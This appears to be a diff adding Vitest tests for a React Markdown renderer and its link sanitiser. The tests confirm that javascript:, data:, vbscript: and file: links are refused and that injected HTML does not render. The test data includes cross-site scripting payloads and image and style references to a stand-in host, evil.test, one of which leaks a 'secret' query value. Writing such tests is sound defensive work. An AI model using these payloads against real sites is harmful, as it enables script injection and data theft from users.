@@ -1,0 +1,47 @@
+// @vitest-environment happy-dom
+import { renderToStaticMarkup } from "react-dom/server";
+import { expect, test } from "vitest";
+import { safeLink } from "./links";
+import { Markdown } from "./Markdown";
+
+const html = (text: string) => renderToStaticMarkup(<Markdown text={text} />);
+
+test("only the web and mail can be linked to", () => {
+  expect(safeLink("https://example.org/a?b")).toBe("https://example.org/a?b");
+  expect(safeLink("mailto:ada@example.org")).toBe("mailto:ada@example.org");
+  const refused = [
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "data:text/html,x",
+    "vbscript:x",
+    "file:///etc/passwd",
+  ];
+  for (const address of [...refused, "/relative", "//evil.test", "#x", "", undefined])
+    expect(safeLink(address)).toBeNull();
+});
+
+test.each([
+  "<script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "<svg onload=alert(1)>",
+  "[click](javascript:alert(1))",
+  "[click](data:text/html;base64,PHNjcmlwdD4=)",
+  "![](https://evil.test/?q=secret)",
+  "![x](https://evil.test/a.png 'title')",
+  "[![x](https://evil.test/a.png)](javascript:alert(1))",
+  "<iframe src=https://evil.test></iframe>",
+  "<style>@import 'https://evil.test'</style>",
+])("nothing in a text runs or is fetched: %s", (text) => {
+  const page = new DOMParser().parseFromString(html(text), "text/html");
+  expect(page.querySelectorAll("script, img, iframe, style, object, link, [onerror], [onload]")).toHaveLength(0);
+  for (const link of page.querySelectorAll("a")) {
+    expect(link.getAttribute("href")).toMatch(/^https:/);
+    expect(link.getAttribute("rel")).toContain("noopener");
+  }
+});
+
+test("what Markdown is for, works", () => {
+  const shown = html("**bold** and [a link](https://example.org)\n\n| a | b |\n|---|---|\n| 1 | 2 |");
+  for (const part of ["<strong>bold</strong>", 'href="https://example.org/"', "<td>1</td>"])
+    expect(shown).toContain(part);
+});
